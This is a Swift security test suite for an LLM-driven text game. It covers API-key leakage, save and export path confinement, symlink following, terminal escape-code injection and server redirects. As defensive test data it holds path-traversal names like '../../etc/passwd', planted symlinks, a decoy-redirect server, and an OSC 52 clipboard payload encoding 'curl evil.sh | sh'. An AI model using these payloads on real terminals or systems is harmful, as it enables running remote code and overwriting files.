import Foundation
import GameWorld
import HTTPTestSupport
import LanguageModels
import OpenAICompatible
import ParleyEngine
import ParleyHost
import ParleyJSON
import SaveGames
import Synchronization
import SyntheticWorlds
import Testing

/// Secrets stay secret, files stay in their folders, and servers are contacted only where configured.
@Suite struct SecurityTests {
    /// A key no file or output may contain.
    static func secret() -> String { "sk-parley-secret-\(UUID().uuidString)" }

    /// The streams of a conversation that files feedback: a greeting, an offer the rules refuse (the lantern for
    /// 1 gold, below Mira's lowest price), and the answer after the refusal.
    static let refusedOfferScript: [[String]] = [
        ChatStreams.text("Welcome, friend!"),
        ChatStreams.toolCall("offerTrade", arguments: #"{"action":"sell","item":"lantern","quantity":1,"price":1}"#),
        ChatStreams.text("Ah, I cannot sell it that cheap."),
    ]

    /// Every file under the folders that contains `secret`, by path.
    static func files(containing secret: String, in folders: [TemporaryFolder]) -> [String] {
        folders.flatMap(\.files).filter { url in
            guard let data = FileManager.default.contents(atPath: url.path) else { return false }
            return data.range(of: Data(secret.utf8)) != nil
        }.map(\.path)
    }

    // MARK: - API keys

    @Test func theAPIKeyIsInNoSaveFeedbackReportExportOrOutputOfAGame() async throws {
        try await Game.$turnTimeout.withValue(GameFaultTests.generousTurnTimeout) { try await keyInNoGameFile() }
    }

    func keyInNoGameFile() async throws {
        let key = Self.secret()
        let server = try ChatServer(.script(Self.refusedOfferScript))
        let saves = TemporaryFolder()
        let feedback = TemporaryFolder()
        let store = SaveGameStore(folder: saves.url)
        let model = try server.model(apiKey: key)
        let host = GameHost(
            pack: try shippedPack(), models: { _, _ in model }, store: store, feedbackFolder: feedback.url)
        let screen = Screen()
        for line in [
            "talk to mira", "sell me the lantern for 1 gold", "report she offered what she cannot", "save slot1",
        ] {
            await host.perform(line, output: screen.record)
        }
        server.set(.fault(.json(#"{"error":{"message":"invalid key"}}"#, status: 401)))
        await host.perform("hello again", output: screen.record)

        // The key was in use: every request carried it.
        #expect(!server.chatRequests.isEmpty)
        #expect(server.chatRequests.allSatisfy { $0.header("Authorization") == "Bearer \(key)" })
        // Feedback was filed (the refused offer and the player's report), and written to the folder.
        let reports = await host.game.feedback
        #expect(reports.count == 2, "\(screen.text)")
        #expect(feedback.files.count == 2)

        #expect(Self.files(containing: key, in: [saves, feedback]) == [])
        for slot in ["slot1", "autosave"] {
            #expect(!(try store.export(slot: slot).jsonString()).contains(key), "export of \(slot)")
        }
        for report in reports {
            #expect(!String(decoding: report.attachment.jsonData(), as: UTF8.self).contains(key))
        }
        #expect(!screen.text.contains(key))
        #expect(screen.problems.contains { $0.contains("OPENAI_API_KEY") }, "the 401 says which key to check")
    }

    @Test func theAPIKeyIsInNoFileOrOutputOfTheCommandLine() async throws {
        let key = Self.secret()
        let server = try ChatServer(.script(Self.refusedOfferScript))
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves").path
        let exports = work.url.appendingPathComponent("exports").path
        let environment = ["OPENAI_API_KEY": key, "PARLEY_MODEL": server.server.baseURL + "/v1"]
        try FileManager.default.createDirectory(atPath: exports, withIntermediateDirectories: true)
        var runs: [ParleyProcess.Run] = []
        runs.append(
            try await ParleyProcess.run(
                [
                    "--content", packageRoot.appendingPathComponent("Content").path, "--saves", saves,
                    "--feedback-dir", work.url.appendingPathComponent("feedback").path,
                ],
                in: work.url,
                // An offer the game refuses (Mira has only 4 loaves), so that a feedback report is filed.
                input: "talk to mira\nI will take 5 loaves for 14 gold\nreport wrong price\nsave slot1\nquit\n",
                environment: environment))
        #expect(runs[0].status == 0, "\(runs[0].err)")
        for arguments in [
            ["saves", "list", "--folder", saves], ["saves", "show", "slot1", "--folder", saves],
            ["saves", "export", "slot1", "--folder", saves, "--out", exports + "/slot1.json"],
            ["transcript", "slot1", "mira", "--folder", saves, "--json", "--annotated"],
            ["feedback", "list", "--folder", saves],
            ["feedback", "export", "--all", "--folder", saves, "--out", exports],
        ] {
            runs.append(try await ParleyProcess.run(arguments, in: work.url, environment: environment))
            #expect(runs.last?.status == 0, "parley \(arguments.joined(separator: " ")): \(runs.last?.err ?? "")")
        }
        #expect(server.chatRequests.allSatisfy { $0.header("Authorization") == "Bearer \(key)" })
        #expect(FileManager.default.fileExists(atPath: exports + "/slot1.json"))
        #expect(work.files.filter { $0.path.hasPrefix(exports) && $0.pathExtension == "json" }.count >= 3)
        #expect(Self.files(containing: key, in: [work]) == [])
        for run in runs {
            #expect(!run.out.contains(key) && !run.err.contains(key))
        }
    }

    // MARK: - Folders

    @Test(arguments: [
        "../../etc/passwd", "/abs/path/slot", "..", ".", "a/b", "nul\u{0}byte", #"..\..\windows"#, "~/x", "%2e%2e%2fup",
        ".hidden", "a/../../b", "\u{202E}evil", "CON", "slot\nname", String(repeating: "x/", count: 200), "",
    ])
    func slotNamesStayInsideTheSaveFolder(_ name: String) throws {
        let root = TemporaryFolder()
        let folder = root.url.appendingPathComponent("saves")
        let store = SaveGameStore(folder: folder)
        guard let url = try? store.slotURL(name) else {
            #expect(throws: SaveGameError.self) { try store.open(slot: name) }
            return
        }
        #expect(url.deletingLastPathComponent().standardizedFileURL.path == folder.standardizedFileURL.path)
        #expect(!url.lastPathComponent.hasPrefix("."))
        #expect(url.pathExtension == SaveGameStore.fileExtension)
        do {
            let file = try store.open(slot: name)
            try file.writeFull(
                SaveSnapshot(state: SyntheticWorld.generate(seed: 1, locations: 1, npcs: 1, items: 2).initialState))
        }
        // Nothing was written beside the save folder.
        #expect(try FileManager.default.contentsOfDirectory(atPath: root.url.path) == ["saves"])
        #expect(
            root.files.allSatisfy {
                $0.deletingLastPathComponent().standardizedFileURL.path == folder.standardizedFileURL.path
            })
        try store.delete(slot: name)
    }

    @Test(arguments: ["saves", "recordings"])
    func anExportWritesOnlyTheFileItWasGiven(_ command: String) async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves").path
        let play = try await ParleyProcess.run(
            ["--content", packageRoot.appendingPathComponent("Content").path, "--saves", saves], in: work.url,
            input: "talk to mira\nhello\nsave slot1\nquit\n")
        #expect(play.status == 0, "\(play.err)")
        let out = work.url.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        // A link where the export goes is replaced, not followed.
        let victim = work.url.appendingPathComponent("victim.txt")
        try Data("untouched\n".utf8).write(to: victim)
        try FileManager.default.createSymbolicLink(
            atPath: out.appendingPathComponent("game.json").path, withDestinationPath: victim.path)
        let export = try await ParleyProcess.run(
            [
                command, "export", "../../slot1", "--folder", saves, "--out",
                out.appendingPathComponent("game.json").path,
            ],
            in: work.url)
        #expect(export.status == 0, "\(export.err)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: out.path) == ["game.json"])
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: work.url.path).sorted() == [
                "out", "saves", "victim.txt",
            ])
        #expect(try String(contentsOf: victim, encoding: .utf8) == "untouched\n")
        #expect(try JSONValue(parsing: Array(Data(contentsOf: out.appendingPathComponent("game.json")))) != .null)
    }

    /// A save in `folder` (slot `slot1`) holding a feedback report for each id.
    static func saveWithReports(ids: [String], in folder: URL) throws {
        let file = try SaveGameStore(folder: folder).open(slot: "slot1")
        try file.writeFull(
            SaveSnapshot(state: SyntheticWorld.generate(seed: 1, locations: 1, npcs: 1, items: 2).initialState))
        let session = LanguageModelSession(model: EchoModel(), instructions: "x")
        for (index, id) in ids.enumerated() {
            let attachment = FeedbackAttachment(
                id: id, sentiment: .negative, issues: [.init(category: .incorrect, explanation: "report \(index)")],
                desiredOutput: nil, transcript: session.transcript, modelID: "m", modelVersion: "1")
            try file.addFeedback(
                id: "report-\(index)", npc: nil, json: String(decoding: attachment.jsonData(), as: UTF8.self))
        }
    }

    @Test func feedbackExportKeepsEveryReportInsideTheOutputFolder() async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves")
        // A report whose id (from a shared or tampered save) tries to climb out of the export folder.
        try Self.saveWithReports(ids: ["../../escaped-report", "plain-report"], in: saves)
        let out = work.url.appendingPathComponent("a/b/out")
        let run = try await ParleyProcess.run(
            ["feedback", "export", "--all", "--folder", saves.path, "--out", out.path], in: work.url)
        #expect(run.status == 0, "\(run.err)")
        let outside = work.files.filter { !$0.standardizedFileURL.path.hasPrefix(out.standardizedFileURL.path + "/") }
            .filter { !$0.standardizedFileURL.path.hasPrefix(saves.standardizedFileURL.path + "/") }
        #expect(outside.isEmpty, "written outside --out: \(outside.map(\.path)) (\(run.out) \(run.err))")
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: out.path).sorted()
                == ["escaped-report.json", "plain-report.json"])
        let escaped = try FeedbackAttachment(data: Data(contentsOf: out.appendingPathComponent("escaped-report.json")))
        #expect(escaped.id == "../../escaped-report")
        #expect(run.out.contains("../../escaped-report is in escaped-report.json"), "\(run.out)")
    }

    @Test func feedbackExportGivesIdsThatMakeOneNameAFileEach() async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves")
        let ids = ["a/b", "a-b", "A.B", "..", "."]
        try Self.saveWithReports(ids: ids, in: saves)
        let out = work.url.appendingPathComponent("out")
        let run = try await ParleyProcess.run(
            ["feedback", "export", "--all", "--folder", saves.path, "--out", out.path], in: work.url)
        #expect(run.status == 0, "\(run.err)")
        let files = try FileManager.default.contentsOfDirectory(atPath: out.path)
        #expect(files.count == ids.count, "\(files)")
        // Every report is in a file of its own.
        let exported = try files.map {
            try FeedbackAttachment(data: Data(contentsOf: out.appendingPathComponent($0))).id
        }
        #expect(Set(exported) == Set(ids))
        #expect(Set(files.map { $0.lowercased() }).count == files.count)
        #expect(files.allSatisfy { !$0.hasPrefix(".") && $0.hasSuffix(".json") })
    }

    @Test func feedbackExportNeverFollowsALinkInTheOutputFolder() async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves")
        try Self.saveWithReports(ids: ["plain-report", "dangling"], in: saves)
        let out = work.url.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        // Links planted where the reports will be written: one to a file outside, one to a file not there yet.
        let victim = work.url.appendingPathComponent("victim.txt")
        try Data("untouched\n".utf8).write(to: victim)
        let planted = work.url.appendingPathComponent("planted.txt")
        try FileManager.default.createSymbolicLink(
            atPath: out.appendingPathComponent("plain-report.json").path, withDestinationPath: victim.path)
        try FileManager.default.createSymbolicLink(
            atPath: out.appendingPathComponent("dangling.json").path, withDestinationPath: planted.path)

        let run = try await ParleyProcess.run(
            ["feedback", "export", "--all", "--folder", saves.path, "--out", out.path], in: work.url)
        #expect(run.status == 0, "\(run.err)")
        #expect(try String(contentsOf: victim, encoding: .utf8) == "untouched\n")
        #expect(!FileManager.default.fileExists(atPath: planted.path))
        for name in ["plain-report", "dangling"] {
            let file = out.appendingPathComponent("\(name).json")
            let type = try FileManager.default.attributesOfItem(atPath: file.path)[.type] as? FileAttributeType
            #expect(type == .typeRegular, "\(name).json is \(String(describing: type))")
            #expect(try FeedbackAttachment(data: Data(contentsOf: file)).id == name)
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: out.path).count == 2)
    }

    // MARK: - Terminal output

    /// The characters a terminal obeys that no output may hold raw: C0 controls but line feed and tab, DEL, C1
    /// controls, bidirectional overrides and isolates. Written here independently of the CLI's own list.
    static func terminalControls(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x0A, 0x09: false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }.map { "U+" + String($0.value, radix: 16, uppercase: true) }
    }

    /// Checks a run printed nothing a terminal would obey.
    static func expectNoTerminalControls(
        _ run: ParleyProcess.Run, _ what: String, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        #expect(
            terminalControls(in: run.out).isEmpty, "\(what) printed \(terminalControls(in: run.out)):\n\(run.out)",
            sourceLocation: sourceLocation)
        #expect(
            terminalControls(in: run.err).isEmpty, "\(what) printed \(terminalControls(in: run.err)):\n\(run.err)",
            sourceLocation: sourceLocation)
    }

    /// An OSC 52 clipboard write (the clipboard would hold `curl evil.sh | sh`), a screen clear, a one-byte CSI,
    /// and a right-to-left override.
    static let hostile = "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}\u{1B}[2J\u{9B}2J\u{202E}gnp.exe"

    @Test func aPlayersEscapeCodesAreShownNotObeyed() async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves").path
        let run = try await ParleyProcess.run(
            ["play", "--content", packageRoot.appendingPathComponent("Content").path, "--saves", saves], in: work.url,
            input: "\(Self.hostile)\ntalk to mira\n\(Self.hostile)\nbye\nquit\n")
        #expect(run.status == 0, "\(run.err)")
        // Piped output has no styling, so no escape byte at all.
        #expect(!run.out.utf8.contains(0x1B))
        Self.expectNoTerminalControls(run, "parley play")
        #expect(
            run.out.contains(#"I don't understand "\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001B[2J"#), "\(run.out)")

        // The turn with Mira was recorded with the player's words; replaying it shows them, not obeys them.
        let replay = try await ParleyProcess.run(
            [
                "replay", "autosave", "--all", "--folder", saves, "--content",
                packageRoot.appendingPathComponent("Content").path,
            ], in: work.url)
        #expect(replay.out.contains("Turn 2"), "\(replay.out) \(replay.err)")
        #expect(replay.out.contains(#"\u001B]52;c;"#), "\(replay.out)")
        Self.expectNoTerminalControls(replay, "parley replay")
    }

    @Test func anNPCsEscapeCodesAreShownNotObeyedEvenWhenSplitAcrossStreamedPieces() async throws {
        // A server whose model streams escape sequences cut in the middle, then echoes the player's words.
        let greeting = ["Well \u{1B}", "]52;c;Y3VybA==", "\u{07} met\u{1B}[", "2J", " \u{C2}", "\u{9B}31m friend\r"]
        let server = try ChatServer(
            .script([greeting.map { ChatStreams.chunk(["content": .string($0)]) } + ChatStreams.text("")]))
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves").path
        let environment = ["PARLEY_MODEL": server.server.baseURL + "/v1"]
        // Free voicing, with time to spare: the server's own words are shown as they stream.
        let run = try await ParleyProcess.run(
            [
                "--content", packageRoot.appendingPathComponent("Content").path, "--saves", saves, "--voice", "free",
                "--first-words-deadline", "600",
            ], in: work.url, input: "talk to mira\n\(Self.hostile)\nbye\nquit\n", environment: environment)
        #expect(run.status == 0, "\(run.err)")
        #expect(!run.out.utf8.contains(0x1B))
        Self.expectNoTerminalControls(run, "parley play")
        #expect(run.out.contains(#"Well \u001B]52;c;Y3VybA==\u0007 met\u001B[2J Â\u009B31m friend"#), "\(run.out)")
        #expect(run.out.contains(#"You said: \u001B]52;c;"#), "\(run.out)")

        // What was saved is shown the same way by every command that reads it.
        for arguments in [
            ["transcript", "autosave", "mira", "--folder", saves],
            ["transcript", "autosave", "mira", "--folder", saves, "--json", "--annotated"],
            ["recordings", "export", "autosave", "--folder", saves],
            ["saves", "export", "autosave", "--folder", saves],
        ] {
            let read = try await ParleyProcess.run(arguments, in: work.url)
            #expect(read.status == 0, "\(arguments): \(read.err)")
            #expect(read.out.contains("52;c;Y3VybA=="), "\(arguments): \(read.out)")
            Self.expectNoTerminalControls(read, "parley \(arguments.prefix(2).joined(separator: " "))")
        }
    }

    @Test func wordsNamesAndLabelsReadFromASaveAreShownNotObeyed() async throws {
        let work = TemporaryFolder()
        let saves = work.url.appendingPathComponent("saves")
        let pack = SyntheticWorld.generate(seed: 1, locations: 1, npcs: 1, items: 2)
        var state = pack.initialState
        var player = state.player
        player.name = "Ada\(Self.hostile)"
        state = GameState(world: state.world, player: player)
        let npc = try #require(state.world.npcs.keys.first)
        // A conversation whose NPC said the hostile words, written with the SaveGames API as the game would.
        let session = LanguageModelSession(model: EchoModel(), instructions: "x")
        _ = try await session.respond(to: "say \(Self.hostile)")
        let file = try SaveGameStore(folder: saves).open(slot: "slot1")
        try file.writeFull(
            SaveSnapshot(
                state: state,
                conversations: [
                    npc: AnnotatedTranscript(
                        transcript: session.transcript, annotations: ["npc.name": "Mira\(Self.hostile)"],
                        turnAnnotations: [:])
                ],
                label: "label\(Self.hostile)"))
        let attachment = FeedbackAttachment(
            id: "report\(Self.hostile)", sentiment: .negative,
            issues: [.init(category: .incorrect, explanation: "explained\(Self.hostile)")], desiredOutput: nil,
            transcript: session.transcript, modelID: "m\(Self.hostile)", modelVersion: "1")
        try file.addFeedback(id: "r1", npc: npc, json: String(decoding: attachment.jsonData(), as: UTF8.self))
        let folder = saves.path
        let runs: [(arguments: [String], status: Int32)] = [
            (["saves", "list", "--folder", folder], 0),
            (["saves", "show", "slot1", "--folder", folder], 0),
            (["saves", "export", "slot1", "--folder", folder], 0),
            (["transcript", "slot1", npc.rawValue, "--folder", folder], 0),
            (["transcript", "slot1", npc.rawValue, "--folder", folder, "--json"], 0),
            (["transcript", "slot1", npc.rawValue, "--folder", folder, "--json", "--annotated"], 0),
            (["transcript", "slot1", "nobody\(Self.hostile)", "--folder", folder], 1),
            (["feedback", "list", "--folder", folder], 0),
            (["feedback", "show", "report", "--folder", folder], 0),
            (
                [
                    "feedback", "export", "--all", "--folder", folder, "--out",
                    work.url.appendingPathComponent("out").path,
                ], 0
            ),
            (["saves", "show", "no\(Self.hostile)slot", "--folder", folder], 1),
        ]
        for (arguments, status) in runs {
            let run = try await ParleyProcess.run(arguments, in: work.url)
            #expect(run.status == status, "\(arguments): \(run.out) \(run.err)")
            // The words are shown, their controls as visible escapes (JSON writes its own, in lowercase).
            if !arguments.contains("no\(Self.hostile)slot") {
                #expect(
                    (run.out + run.err).lowercased().contains(#"\u001b]52;c;y3vybcbldmlslnnoihwgc2g=\u0007"#),
                    "\(arguments): \(run.out) \(run.err)")
            }
            Self.expectNoTerminalControls(run, "parley \(arguments.prefix(2).joined(separator: " "))")
            if arguments.contains("--json") || arguments.contains("export") && !arguments.contains("--out") {
                // JSON stays JSON, with the same strings.
                let value = try JSONValue(parsing: Array(run.out.utf8))
                #expect(value.jsonString().contains("52;c;Y3VybCBldmlsLnNoIHwgc2g="))
            }
        }
    }

    @Test func fileNamesInAContentPackAreShownNotObeyed() async throws {
        let work = TemporaryFolder()
        let pack = work.url.appendingPathComponent("Content")
        try FileManager.default.copyItem(at: packageRoot.appendingPathComponent("Content"), to: pack)
        // A broken NPC file and a broken test plan, both named with escape codes.
        try Data("{".utf8).write(to: pack.appendingPathComponent("tests/plan\(Self.hostile).json"))
        let check = try await ParleyProcess.run(["content", "check", pack.path], in: work.url)
        #expect(check.status == 0, "\(check.out) \(check.err)")
        let test = try await ParleyProcess.run(["test", pack.path], in: work.url)
        #expect(test.status == 1)
        #expect(test.out.contains(#"FAIL "#) && test.out.contains(#"plan\u001B]52;c;"#), "\(test.out)")
        Self.expectNoTerminalControls(test, "parley test")

        try Data("{".utf8).write(to: pack.appendingPathComponent("npcs/npc\(Self.hostile).json"))
        for arguments in [
            ["content", "check", pack.path], ["content", "check", pack.path, "--json"], ["test", pack.path],
        ] {
            let run = try await ParleyProcess.run(arguments, in: work.url)
            #expect(run.status == 1, "\(arguments): \(run.out) \(run.err)")
            #expect(
                (run.out + run.err).lowercased().contains(#"npc\u001b]52;c;"#), "\(arguments): \(run.out) \(run.err)")
            Self.expectNoTerminalControls(run, "parley \(arguments.prefix(2).joined(separator: " "))")
        }
    }

    // MARK: - Servers

    @Test func serversAreContactedOnlyAtTheirConfiguredURLs() async throws {
        let decoy = try LoopbackHTTPServer(.json(#"{"choices":[{"message":{"content":"decoy"}}]}"#))
        defer { decoy.stop() }
        let chats = Mutex(0)
        let server = try LoopbackHTTPServer { request in
            switch request.path {
            case "/prefix/props":
                // A llama-server that names the decoy wherever it can.
                return .json(
                    #"{"default_generation_settings":{"n_ctx":8192},"total_slots":1,"#
                        + #""model_path":"\#(decoy.baseURL)/models/evil.gguf","build_info":"\#(decoy.baseURL)"}"#)
            case "/prefix/apply-template": return .json(#"{"prompt":"x"}"#)
            case "/prefix/tokenize": return .json(#"{"tokens":[1,2,3]}"#)
            case "/prefix/v1/chat/completions":
                let count = chats.withLock {
                    $0 += 1
                    return $0
                }
                return count == 1
                    ? .respond(
                        status: 302, headers: [("Location", decoy.baseURL + "/v1/chat/completions")], body: Data())
                    : .eventStream(ChatStreams.text("See \(decoy.baseURL)/v1 for more."))
            default: return .text("not found", status: 404)
            }
        }
        defer { server.stop() }
        var configuration = OpenAICompatibleLanguageModel.Configuration(
            baseURL: server.baseURL + "/prefix/v1", apiKey: Self.secret())
        configuration.maximumRetries = 0
        let model = try await OpenAICompatibleLanguageModel.connect(configuration)
        let game = Game(state: try shippedPack().initialState, models: { _, _ in model })
        let screen = Screen()
        await game.perform("talk to mira", output: screen.record)  // the redirect: refused, not followed
        #expect(screen.problems.count == 1, "\(screen.text)")
        await game.perform("hello", output: screen.record)
        // The answer streams word by word: look at the words joined, not at the pieces one per line.
        #expect(screen.speech.contains("for more"), "\(screen.text)")

        #expect(decoy.connectionsAccepted == 0)
        #expect(!server.requests.isEmpty)
        for request in server.requests {
            #expect(request.path.hasPrefix("/prefix/"), "\(request.method) \(request.target)")
            #expect(request.header("Host") == "127.0.0.1:\(server.port)")
        }
    }
}
